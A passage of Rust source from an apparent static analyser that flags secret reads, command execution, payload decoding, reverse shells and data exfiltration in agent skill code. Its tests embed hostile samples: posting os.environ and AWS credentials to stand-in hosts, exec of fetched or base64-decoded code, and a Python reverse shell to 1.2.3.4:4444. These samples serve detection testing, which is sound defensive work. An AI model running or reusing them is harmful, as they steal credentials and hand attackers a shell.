                .find(|(k, _)| k == name)
                .map(|(_, v)| v.clone())
        };
        match callee.as_str() {
            // --- reading the environment and files
            "os.getenv"
            | "os.environ.get"
            | "os.environ.pop"
            | "os.environ.setdefault"
            | "process.env.get"
            | "Deno.env.get" => {
                self.out.act(
                    span,
                    Act::Env {
                        name: arg0.text.clone(),
                    },
                );
                env_var(&arg0)
            }
            "os.environ.copy" | "os.environ.items" | "os.environ.keys" | "os.environ.values"
            | "Deno.env.toObject" | "Object.entries" | "Object.keys" | "Object.values"
                if callee.starts_with("os.")
                    || callee.starts_with("Deno")
                    || args.iter().any(|a| a.taint.has(Taint::ENV_ALL)) =>
            {
                self.out.act(span, Act::Env { name: None });
                Val::tainted(Taint::ENV_ALL)
            }
            "open"
            | "io.open"
            | "codecs.open"
            | "fs.readFileSync"
            | "fs.readFile"
            | "fs.promises.readFile"
            | "fs.createReadStream"
            | "Deno.readTextFile"
            | "Bun.file"
            | "sqlite3.connect"
            | "readFileSync"
            | "fs.readFileSync.toString" => {
                if let Some(p) = arg0.text.as_deref() {
                    let writes = args
                        .get(1)
                        .and_then(|m| m.text.as_deref())
                        .is_some_and(|m| m.contains(['w', 'a']));
                    if !writes {
                        self.out.act(
                            span,
                            Act::Read {
                                path: p.to_string(),
                            },
                        );
                    }
                }
                file_read(&arg0, world)
            }
            // --- serialisers writing to an open file: `json.dump(obj, f)`
            "json.dump" | "pickle.dump" | "yaml.dump" | "yaml.safe_dump" | "plistlib.dump"
            | "toml.dump" | "tomli_w.dump" | "tomlkit.dump" => {
                let file = arg_nodes.get(1).and_then(|n| {
                    let name = self.text(*n).to_string();
                    self.handles
                        .get(&name)
                        .cloned()
                        .or_else(|| self.opened_path(*n, world))
                });
                let mut content = arg0.clone();
                if let Some(n) = arg_nodes.first()
                    && content.text.is_none()
                {
                    content.text = Some(self.text(*n).to_string());
                }
                self.write(file, content, span, world);
                Val::default()
            }
            // --- deleting
            "shutil.rmtree" | "os.removedirs" | "fs.rmSync" | "fs.rmdirSync" | "fs.rm"
            | "fs.promises.rm" | "fs.promises.rmdir" | "rimraf" | "rimraf.sync"
            | "fse.removeSync" | "fse.remove" | "fs.removeSync" | "Deno.remove" | "del"
            | "deleteSync" => {
                if let Some(p) = arg0.text.as_deref() {
                    self.out.act(
                        span,
                        Act::Delete {
                            path: p.to_string(),
                            recursive: true,
                        },
                    );
                }
                Val::default()
            }
            "os.remove" | "os.unlink" | "fs.unlinkSync" | "fs.unlink" | "os.rmdir" => {
                if let Some(p) = arg0.text.as_deref() {
                    self.out.act(
                        span,
                        Act::Delete {
                            path: p.to_string(),
                            recursive: false,
                        },
                    );
                }
                Val::default()
            }
            "os.path.expanduser" | "os.path.expandvars" | "path.resolve" | "path.normalize"
            | "Path" | "pathlib.Path" | "pathlib.Path.home" | "Path.home" | "os.homedir"
            | "os.path.join" | "path.join" => {
                if matches!(last.as_str(), "home" | "homedir") {
                    return Val::text("~");
                }
                let mut v = Val::text("");
                for (i, a) in args.iter().enumerate() {
                    if i > 0 {
                        v = v.concat(&Val::text("/"));
                    }
                    v = v.concat(a);
                }
                v
            }
            // --- running commands
            "subprocess.run"
            | "subprocess.call"
            | "subprocess.check_call"
            | "subprocess.check_output"
            | "subprocess.Popen"
            | "subprocess.getoutput"
            | "subprocess.getstatusoutput"
            | "os.system"
            | "os.popen"
            | "commands.getoutput"
            | "child_process.exec"
            | "child_process.execSync"
            | "child_process.spawn"
            | "child_process.spawnSync"
            | "child_process.execFile"
            | "child_process.execFileSync"
            | "execa"
            | "execa.command"
            | "Bun.spawn"
            | "os.execvp"
            | "os.execv"
            | "os.spawnlp"
            | "pty.spawn" => self.run_command(&callee, &args, &arg_nodes, &kwargs, span, world),
            // --- running code
            "exec"
            | "eval"
            | "builtins.exec"
            | "builtins.eval"
            | "compile"
            | "Function"
            | "vm.runInNewContext"
            | "vm.runInThisContext"
            | "vm.runInContext"
            | "vm.Script"
            | "execfile" => {
                let how = format!("`{callee}`");
                shell::exec(arg0, &how, span, self.lang, world, &mut self.out);
                Val::default()
            }
            "pickle.loads" | "marshal.loads" | "dill.loads" | "cloudpickle.loads" => {
                let mut code = arg0;
                code.taint |= Taint::DECODED;
                self.out.act(
                    span,
                    Act::Exec {
                        code,
                        how: format!("`{callee}` runs the code a pickle holds"),
                    },
                );
                Val::default()
            }
            // --- decoding
            "base64.b64decode"
            | "base64.standard_b64decode"
            | "base64.urlsafe_b64decode"
            | "base64.decodebytes"
            | "base64.decodestring"
            | "binascii.a2b_base64"
            | "atob"
            | "b64decode" => decoded(&arg0, decode::base64),
            "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex" | "bytearray.fromhex" => {
                decoded(&arg0, decode::hex)
            }
            "base64.b32decode"
            | "base64.a85decode"
            | "base64.b85decode"
            | "zlib.decompress"
            | "gzip.decompress"
            | "lzma.decompress"
            | "bz2.decompress"
            | "zlib.inflateSync"
            | "zlib.gunzipSync"
            | "zlib.brotliDecompressSync"
            | "zlib.unzipSync" => decoded(&arg0, |_| None),
            "codecs.decode" => {
                let how = args
                    .get(1)
                    .and_then(|a| a.text.clone())
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                match how.as_str() {
                    "rot13" | "rot_13" => decoded(&arg0, |t| Some(decode::rot13(t))),
                    "hex" => decoded(&arg0, decode::hex),
                    "base64" => decoded(&arg0, decode::base64),
                    _ => decoded(&arg0, |_| None),
                }
            }
            "Buffer.from" => {
                let enc = args.get(1).and_then(|a| a.text.clone()).unwrap_or_default();
                match enc.as_str() {
                    "base64" | "base64url" => decoded(&arg0, decode::base64),
                    "hex" => decoded(&arg0, decode::hex),
                    _ => Val::derived([&arg0]),
                }
            }
            "String.fromCharCode" | "chr" | "String.fromCodePoint" => {
                let codes: Option<Vec<i64>> = args
                    .iter()
                    .map(|a| a.text.as_deref().and_then(|t| t.trim().parse().ok()))
                    .collect();
                let mut v = Val::derived(args.iter());
                v.text = codes.and_then(|c| decode::char_codes(&c));
                v.taint |= Taint::DECODED;
                v
            }
            // --- DNS
            "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
            | "dns.lookup"
            | "dns.resolve"
            | "dns.resolve4"
            | "dns.resolveTxt"
            | "dns.promises.lookup"
            | "dns.promises.resolve"
            | "dns.promises.resolveTxt"
            | "Deno.resolveDns" => {
                if !arg0.taint.is_empty() {
                    self.out.act(span, Act::Lookup { host: arg0 });
                }
                Val::default()
            }
            // --- downloads
            "urllib.request.urlretrieve" | "urllib.urlretrieve" | "wget.download" => {
                if let Some(file) = args
                    .get(1)
                    .and_then(|a| a.text.clone())
                    .or_else(|| kw("filename").and_then(|v| v.text))
                    .or_else(|| kw("out").and_then(|v| v.text))
                {
                    world.note_written(&file, &Val::fetched(arg0.text.as_deref()));
                }
                self.send_if_tainted(&arg0, Val::default(), span);
                Val::fetched(arg0.text.as_deref())
            }
            "fs.writeFileSync"
            | "fs.writeFile"
            | "fs.appendFileSync"
            | "fs.appendFile"
            | "fs.promises.writeFile"
            | "fs.promises.appendFile"
            | "Deno.writeTextFile"
            | "Bun.write" => {
                let content = args.get(1).cloned().unwrap_or_default();
                self.write(arg0.text.clone(), content, span, world);
                Val::default()
            }
            "shutil.copy" | "shutil.copyfile" | "shutil.copy2" | "shutil.move"
            | "fs.copyFileSync" | "fs.renameSync" | "os.rename" | "os.replace" | "os.symlink"
            | "fs.symlinkSync" => {
                let mut content = arg0.clone();
                content.merge(&world.file_val(arg0.shown()));
                self.write(
                    args.get(1).and_then(|a| a.text.clone()),
                    content,
                    span,
                    world,
                );
                Val::default()
            }
            _ => {
                if matches!(
                    last.as_str(),
                    "execute"
                        | "executescript"
                        | "executemany"
                        | "query"
                        | "raw"
                        | "exec_driver_sql"
                ) && let Some(what) = arg0
                    .text
                    .as_deref()
                    .and_then(super::knowledge::sql_destruction)
                {
                    self.out.act(
                        span,
                        Act::Destroy {
                            what,
                            severe: false,
                        },
                    );
                }
                if let Some(v) = self.follow(&callee, &args, &kwargs, world) {
                    return v;
                }
                self.method_or_network(
                    &callee,
                    &last,
                    receiver,
                    receiver_name,
                    &args,
                    &kwargs,
                    span,
                    world,
                    payload(),
                    all(),
                )
            }
        }
    }

    /// A call of a function, method or class of the skill, followed into its body.
    fn follow(
        &mut self,
        callee: &str,
        args: &[Val],
        kwargs: &[(String, Val)],
        world: &mut World,
    ) -> Option<Val> {
        let prog = world.prog?;
        let id = self.resolve(prog, callee)?;
        Some(self.call_def(prog, id, args, kwargs, world))
    }

    /// The definition a callee's dotted name calls (see [`Program`]'s resolution rules).
    fn resolve(&self, prog: &Program<'_>, callee: &str) -> Option<DefId> {
        if callee.is_empty() || callee.contains('…') || callee.starts_with('?') {
            return None;
        }
        let lang = self.lang;
        // a module path: `./lib/send` (its default export) or `./collect.collect`
        if let Some(slash) = callee.rfind('/') {
            let tail = &callee[slash + 1..];
            return match tail.split_once('.') {
                Some((m, member)) => {
                    prog.in_module(&callee[..slash + 1 + m.len()], Some(member), lang)
                }
                None => prog.in_module(callee, None, lang),
            };
        }
        let Some((head, last)) = callee.rsplit_once('.') else {
            return prog.function(callee, self.out.file, lang);
        };
        let head = head.trim_end_matches("()");
        match head {
            "self" | "this" | "cls" | "super()" | "super" => {
                prog.method(self.class.as_deref()?, last, lang)
            }
            _ => match self.instances.get(head) {
                Some(class) => prog.method(class, last, lang),
                None if prog.is_class(head, lang) => prog.method(head, last, lang),
                None => prog.in_module(head, Some(last), lang).or_else(|| {
                    prog.method(head, last, lang)
                        .filter(|id| prog.def(*id).class.as_deref() == Some(head))
                }),
            },
        }
    }

    /// Follow a call of `id`: its body runs in a scope of its own with the arguments bound to
    /// its parameters (its file's imports and globals visible); what it returns, and its
    /// acts, reported where they are in its file.
    fn call_def(
        &mut self,
        prog: &Program<'_>,
        id: DefId,
        args: &[Val],
        kwargs: &[(String, Val)],
        world: &mut World,
    ) -> Val {
        let passed = || Val::derived(args.iter().chain(kwargs.iter().map(|(_, v)| v)));
        let mut all: Vec<Val> = args.to_vec();
        all.extend(kwargs.iter().map(|(_, v)| v.clone()));
        let key = (id, World::call_key(&all));
        if let Some(known) = world.memo.get(&key) {
            world.called.insert(id);
            return known.clone();
        }
        if !world.may_follow(id) {
            return passed();
        }
        let result = self.follow_body(prog, id, args, kwargs, world);
        world.memo.insert(key, result.clone());
        result
    }

    fn follow_body(
        &mut self,
        prog: &Program<'_>,
        id: DefId,
        args: &[Val],
        kwargs: &[(String, Val)],
        world: &mut World,
    ) -> Val {
        let passed = || Val::derived(args.iter().chain(kwargs.iter().map(|(_, v)| v)));
        let def = prog.def(id).clone();
        let lang = prog.units[def.unit].lang;
        if def.kind == DefKind::Class {
            let init = if lang == Lang::Python {
                "__init__"
            } else {
                "constructor"
            };
            if let Some(ctor) = prog
                .method(&def.name, init, lang)
                .filter(|c| prog.def(*c).class.as_deref() == Some(def.name.as_str()))
            {
                self.call_def(prog, ctor, args, kwargs, world);
            }
            return Val::default();
        }
        let Some(node) = prog.node(id) else {
            return passed();
        };
        let unit = &prog.units[def.unit];
        // a module runs its top level when first imported: its globals and imports exist
        if world.units_done.insert(def.unit)
            && let Some(tree) = &unit.tree
        {
            self.out.extend(analyse_unit(unit, tree.root_node(), world));
        }
        world.enter(id);
        let mut callee = Script::new(lang, &unit.text, unit.base, None, unit.file);
        callee.class = def.class.clone();
        callee.aliases = world.imports.get(&def.unit).cloned().unwrap_or_default();
        let result = if def.kind == DefKind::Script {
            // a script run with arguments: they are its argv
            let argv = Val::derived(args.iter());
            for name in ["sys.argv", "process.argv", "Deno.args", "argv"] {
                callee.vars.insert(name.to_string(), argv.clone());
            }
            callee.top = true;
            callee.run(node, world);
            Val::default()
        } else {
            callee.bind(node, args, kwargs, def.class.is_some());
            match node.child_by_field_name("body") {
                Some(body) if matches!(body.kind(), "block" | "statement_block" | "class_body") => {
                    callee.visit(body, world);
                    callee.reverse_shell_seen();
                    callee.returns.clone()
                }
                Some(body) => callee.eval(body, world),
                None => Val::default(),
            }
        };
        world.leave();
        self.out.extend(std::mem::take(&mut callee.out));
        result
    }

    /// Bind a function's parameters to the call's arguments (a method's `self` skipped).
    fn bind(&mut self, node: Node<'_>, args: &[Val], kwargs: &[(String, Val)], method: bool) {
        let params = node
            .child_by_field_name("parameters")
            .or_else(|| node.child_by_field_name("parameter"));
        let Some(params) = params else { return };
        let list: Vec<Node<'_>> = if params.kind() == "identifier" {
            vec![params]
        } else {
            Self::children(params)
        };
        let mut positional = args.iter();
        // TypeScript read by the JavaScript grammar: `(body: string)` parses as an error
        // holding the name, then the type as a lone identifier
        let mut typed = false;
        for (i, p) in list.iter().enumerate() {
            if std::mem::take(&mut typed) && p.kind() == "identifier" {
                continue;
            }
            let name_node = match p.kind() {
                "ERROR" => {
                    typed = true;
                    p.named_child(0).filter(|n| n.kind() == "identifier")
                }
                "identifier" => Some(*p),
                "default_parameter" | "typed_default_parameter" => p.child_by_field_name("name"),
                "assignment_pattern" => p.child_by_field_name("left"),
                "typed_parameter"
                | "list_splat_pattern"
                | "rest_pattern"
                | "dictionary_splat_pattern" => p.named_child(0),
                "object_pattern" | "array_pattern" => Some(*p),
                _ => None,
            };
            let Some(name_node) = name_node else { continue };
            let name = self.text(name_node).to_string();
            if i == 0 && method && matches!(name.as_str(), "self" | "cls") {
                continue;
            }
            let value = match p.kind() {
                "list_splat_pattern" | "rest_pattern" => Val::derived(positional.by_ref()),
                "dictionary_splat_pattern" => Val::derived(kwargs.iter().map(|(_, v)| v)),
                _ => kwargs
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| v.clone())
                    .or_else(|| positional.next().cloned())
                    .unwrap_or_default(),
            };
            if matches!(p.kind(), "object_pattern" | "array_pattern") {
                for part in name
                    .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
                    .filter(|p| !p.is_empty())
                {
                    self.vars.insert(part.to_string(), Val::derived([&value]));
                }
            } else {
                self.vars.insert(name, value);
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn method_or_network(
        &mut self,
        callee: &str,
        last: &str,
        receiver: Val,
        receiver_name: Option<String>,
        args: &[Val],
        kwargs: &[(String, Val)],
        span: Span,
        world: &mut World,
        payload: Val,
        all: Val,
    ) -> Val {
        let arg0 = args.first().cloned().unwrap_or_default();
        let module = callee.split('.').next().unwrap_or("");
        let http_lib = matches!(
            module,
            "requests"
                | "httpx"
                | "aiohttp"
                | "urllib3"
                | "axios"
                | "got"
                | "superagent"
                | "needle"
                | "ky"
                | "undici"
                | "node-fetch"
                | "request"
        );
        match last {
            "post" | "put" | "patch"
                if http_lib
                    || callee.contains("session")
                    || callee.contains("client")
                    || callee.contains("Session")
                    || callee.contains("Client") =>
            {
                self.fetched(&arg0, span);
                let mut data = payload;
                data.merge(&arg0);
                self.send_if_tainted(&arg0, data, span);
                Val::fetched(arg0.text.as_deref())
            }
            "get" | "request" | "urlopen" | "fetch" | "head" | "delete" | "options" | "Request"
                if http_lib
                    || matches!(
                        callee,
                        "fetch"
                            | "urllib.request.urlopen"
                            | "urllib.request.Request"
                            | "urllib2.urlopen"
                            | "urllib.urlopen"
                            | "urlopen"
                            | "Request"
                            | "https.get"
                            | "http.get"
                            | "https.request"
                            | "http.request"
                            | "urllib.request.build_opener().open"
                            | "globalThis.fetch"
                            | "window.fetch"
                    )
                    || callee.ends_with("Session().get") =>
            {
                self.fetched(&arg0, span);
                let mut data = payload;
                data.merge(&arg0);
                self.send_if_tainted(&arg0, data, span);
                Val::fetched(arg0.text.as_deref())
            }
            "sendBeacon" | "send" | "sendall" | "sendto" | "sendmail" | "send_message"
            | "storbinary" | "storlines" | "emit" | "write" | "end" => {
                if let Some(path) = receiver_name
                    .as_ref()
                    .and_then(|n| self.handles.get(n))
                    .cloned()
                {
                    self.write(Some(path), arg0, span, world);
                    return Val::default();
                }
                let data = all;
                // `write`, `end`, `emit` and `send` name many things: only on a connection
                // (or a method that only sends) do they send; stolen data on an unknown
                // receiver's `send` too
                let on_connection = receiver_name
                    .as_ref()
                    .is_some_and(|n| self.connections.contains(n.as_str()));
                let sends_only = matches!(
                    last,
                    "sendall"
                        | "sendto"
                        | "sendmail"
                        | "send_message"
                        | "sendBeacon"
                        | "storbinary"
                        | "storlines"
                );
                if (on_connection
                    || sends_only && !data.taint.is_empty()
                    || last == "send" && data.taint.is_stolen())
                    && !data.taint.is_empty()
                    && data.taint != Taint::FETCHED
                {
                    self.out.act(span, Act::Send { data, host: None });
                }
                Val::default()
            }
            "dup2" => {
                self.dup_or_pipe = true;
                Val::default()
            }
            // a container filled with what it is given
            "append" | "extend" | "update" | "add" | "insert" | "push" | "unshift"
            | "setdefault" | "put" | "appendleft" | "add_section" | "writestr" | "set_content"
            | "set_payload" | "attach" | "add_attachment" | "add_header" | "__setitem__" => {
                let given = Val::derived(args.iter().chain(kwargs.iter().map(|(_, v)| v)));
                if let Some(name) = &receiver_name {
                    self.merge_into(name, &given, world);
                }
                Val::derived([&receiver, &given])
            }
            "pipe" => {
                self.dup_or_pipe = true;
                Val::derived([&receiver])
            }
            "write_text" | "write_bytes" => {
                self.write(receiver.text.clone(), arg0, span, world);
                Val::default()
            }
            "read_text" | "read_bytes" | "read" | "readlines" | "readline" => {
                let mut v = Val::derived([&receiver]);
                if receiver.text.as_deref().is_some_and(is_secret_path) {
                    v.taint |= Taint::SECRET_FILE;
                }
                v
            }
            "decode" | "toString" | "strip" | "trim" | "lower" | "upper" | "encode" | "rstrip"
            | "lstrip" | "split" | "join" | "format" | "replace" | "concat" | "slice"
            | "substring" => {
                let receiver_is_literal =
                    receiver.text.as_deref() == Some("") || receiver.text.as_deref() == Some(" ");
                if last == "join" && receiver_is_literal {
                    return Val::derived(args.iter())
                        .with_text(args.first().and_then(|a| a.text.clone()));
                }
                let mut v = Val::derived(std::iter::once(&receiver).chain(args.iter()));
                v.text = match last {
                    "decode" | "toString" | "encode" | "split" | "join" => receiver.text.clone(),
                    "strip" | "trim" => receiver.text.as_deref().map(|t| t.trim().to_string()),
                    "concat" => receiver
                        .text
                        .clone()
                        .zip(arg0.text.clone())
                        .map(|(a, b)| a + &b),
                    _ => None,
                };
                if last == "toString" && arg0.text.as_deref() == Some("base64") {
                    v.text = None;
                }
                v
            }
            "reverse" => {
                let mut v = Val::derived([&receiver]);
                v.text = receiver.text.map(|t| t.chars().rev().collect());
                v.taint |= Taint::DECODED;
                v
            }
            "text" | "json" | "content" | "body" | "then" | "arrayBuffer" | "blob" | "getvalue"
            | "communicate" => Val::derived(std::iter::once(&receiver).chain(args.iter())),
            _ => {
                if matches!(callee, "json.dumps" | "JSON.stringify" | "str" | "String") {
                    return Val::derived(args.iter()).with_text(arg0.text.clone());
                }
                if matches!(
                    callee,
                    "dict"
                        | "str"
                        | "json.dumps"
                        | "JSON.stringify"
                        | "list"
                        | "repr"
                        | "bytes"
                        | "base64.b64encode"
                        | "base64.urlsafe_b64encode"
                        | "base64.b32encode"
                        | "binascii.hexlify"
                        | "urllib.parse.urlencode"
                        | "urlencode"
                        | "zlib.compress"
                        | "btoa"
                        | "encodeURIComponent"
                        | "quote"
                        | "urllib.parse.quote"
                        | "hex"
                        | "Object.entries"
                        | "Object.assign"
                        | "dict.items"
                ) || kwargs.is_empty() && callee.starts_with('?')
                {
                    return Val::derived(std::iter::once(&receiver).chain(args.iter()));
                }
                if self.lang == Lang::Python && callee.contains("spawn")
                    || callee.ends_with("pty.spawn")
                {
                    self.shell_spawn = true;
                }
                Val::derived(std::iter::once(&receiver).chain(args.iter()))
            }
        }
    }

    /// An address the code contacts (the card's hosts).
    fn fetched(&mut self, url: &Val, span: Span) {
        if let Some(u) = url.text.as_deref().filter(|u| u.contains("://")) {
            self.out.act(span, Act::Fetch { url: u.to_string() });
        }
    }

    fn send_if_tainted(&mut self, url: &Val, data: Val, span: Span) {
        let mut sent = data;
        sent.merge(url);
        if !sent.taint.is_empty() && sent.taint != Taint::FETCHED {
            let host = url.text.as_deref().and_then(host_of);
            self.out.act(span, Act::Send { data: sent, host });
        }
    }

    fn write(&mut self, path: Option<String>, content: Val, span: Span, world: &mut World) {
        let Some(path) = path else { return };
        world.note_written(&path, &content);
        self.out.act(span, Act::Write { path, content });
    }

    /// `subprocess.run([...])`, `os.system("...")`, `execSync("...")`, `spawn("sh", ["-c", x])`.
    fn run_command(
        &mut self,
        callee: &str,
        args: &[Val],
        arg_nodes: &[Node<'_>],
        kwargs: &[(String, Val)],
        span: Span,
        world: &mut World,
    ) -> Val {
        let first_node = arg_nodes.first().copied();
        let mut argv: Vec<Val> = match first_node {
            Some(n) if matches!(n.kind(), "list" | "array" | "tuple") => Self::children(n)
                .into_iter()
                .map(|c| self.eval(c, world))
                .collect(),
            _ => Vec::new(),
        };
        // spawn("sh", ["-c", x]): the program, then its argument array
        if argv.is_empty() && arg_nodes.len() > 1 && matches!(arg_nodes[1].kind(), "array" | "list")
        {
            argv.push(args[0].clone());
            let rest: Vec<Val> = Self::children(arg_nodes[1])
                .into_iter()
                .map(|c| self.eval(c, world))
                .collect();
            argv.extend(rest);
        }
        if callee.ends_with("pty.spawn")
            || argv.iter().chain(args.first()).any(|a| {
                a.text.as_deref().is_some_and(|t| {
                    matches!(
                        t.trim(),
                        "/bin/sh"
                            | "/bin/bash"
                            | "sh"
                            | "bash"
                            | "cmd.exe"
                            | "powershell"
                            | "/bin/zsh"
                            | "sh -i"
                            | "/bin/sh -i"
                            | "bash -i"
                            | "/bin/bash -i"
                    )
                })
            })
        {
            self.shell_spawn = true;
        }
        if kwargs.iter().any(|(k, _)| k == "stdin" || k == "stdout")
            || callee.ends_with("pty.spawn")
        {
            self.dup_or_pipe |=
                self.socket.is_some() && kwargs.iter().any(|(_, v)| v.text.is_none());
        }
        if !argv.is_empty() {
            return shell::command_semantics(argv, Val::default(), span, world, &mut self.out);
        }
        let Some(code) = args.first().cloned() else {
            return Val::default();
        };
        // a plain command string with no shell syntax is one command
        if let Some(text) = code
            .text
            .as_deref()
            .filter(|t| !t.contains(['|', ';', '&', '>', '<', '$', '`', '\n', '"', '\'']))
        {
            let argv: Vec<Val> = text.split_whitespace().map(Val::text).collect();
            return shell::command_semantics(argv, Val::default(), span, world, &mut self.out);
        }
        shell::exec(
            code.clone(),
            &format!("`{callee}`"),
            span,
            Lang::Shell,
            world,
            &mut self.out,
        );
        Val::derived([&code])
    }
}

impl Val {
    fn with_text(mut self, text: Option<String>) -> Val {
        self.text = text;
        self
    }
}

/// One variable of the environment read by `name`: a secret when its name says so; the whole
/// environment when the name comes from iterating it (`for k in os.environ: os.environ[k]`);
/// nothing known when the name is computed otherwise (a loop over the skill's own list).
fn env_var(name: &Val) -> Val {
    match name.text.as_deref() {
        Some(n) => secret_var(n),
        None if name.taint.has(Taint::ENV_ALL) => Val::tainted(Taint::ENV_ALL),
        None => Val::default(),
    }
}

fn secret_var(name: &str) -> Val {
    let taint = var_taint(name);
    let mut v = Val::tainted(taint);
    if !taint.is_empty() {
        v.secrets.push(name.to_string());
    }
    v
}

fn file_read(path: &Val, world: &World) -> Val {
    let mut v = Val::derived([path]);
    if let Some(p) = path.text.as_deref() {
        if is_secret_path(p) {
            v.taint |= Taint::SECRET_FILE;
        }
        v.merge(&world.file_val(p));
    }
    v.text = None;
    v
}

fn decoded(input: &Val, how: impl Fn(&str) -> Option<String>) -> Val {
    let mut v = Val::derived([input]);
    v.text = input.text.as_deref().and_then(how);
    v.taint |= Taint::DECODED;
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(lang: Lang, text: &str) -> Found {
        let mut world = World::default();
        analyse(lang, text, 0, &mut world)
    }

    fn stolen_sent(f: &Found) -> bool {
        f.facts
            .iter()
            .any(|f| matches!(&f.act, Act::Send { data, .. } if data.taint.is_stolen()))
    }

    fn exec_with(f: &Found, t: Taint) -> bool {
        f.facts
            .iter()
            .any(|f| matches!(&f.act, Act::Exec { code, .. } if code.taint.has(t)))
    }

    #[test]
    fn python_flows() {
        let f = run(
            Lang::Python,
            "import os, requests as r\nu = 'https://' + 'x.io' + '/c'\nbody = dict(os.environ)\nr.post(\n  u,\n  json=body)\n",
        );
        assert!(stolen_sent(&f), "{f:?}");
        let f = run(
            Lang::Python,
            "from pathlib import Path\nimport urllib.request\nk = (Path.home() / '.aws' / 'credentials').read_text()\nreq = urllib.request.Request('http://1.2.3.4/', data=k.encode())\nurllib.request.urlopen(req)\n",
        );
        assert!(stolen_sent(&f), "{f:?}");
        let f = run(
            Lang::Python,
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        );
        assert!(exec_with(&f, Taint::DECODED));
        let f = run(
            Lang::Python,
            "import urllib.request as u\nexec(u.urlopen('https://x.io/p.py').read())\n",
        );
        assert!(exec_with(&f, Taint::FETCHED));
        let f = run(
            Lang::Python,
            "import requests, os\nr = requests.get('https://api.github.com/user', headers={'Authorization': 'token ' + os.environ['GH_TOKEN']})\nprint(r.json())\n",
        );
        assert!(!stolen_sent(&f));
        let f = run(
            Lang::Python,
            "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('1.2.3.4',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])\n",
        );
        assert!(
            f.facts
                .iter()
                .any(|f| matches!(f.act, Act::ShellOverSocket { .. })),
            "{f:?}"
        );
    }

    #[test]
    fn javascript_flows() {
        let f = run(
            Lang::JavaScript,
            "const h = 'x.io';\nfetch(`https://${h}/c`, {method: 'POST', body: JSON.stringify(process.env)});\n",
        );
        assert!(stolen_sent(&f), "{f:?}");
        let f = run(
            Lang::JavaScript,
            "const {execSync} = require('child_process');\nexecSync(Buffer.from('Y3VybCB4IHwgc2g=', 'base64').toString());\n",
        );
        assert!(exec_with(&f, Taint::DECODED), "{f:?}");
        let f = run(
            Lang::JavaScript,
            "const r = await fetch('https://api.x.io/v1', {headers: {Authorization: `Bearer ${process.env.X_API_KEY}`}});\nconsole.log(await r.json());\n",
        );
        assert!(!stolen_sent(&f));
    }
}
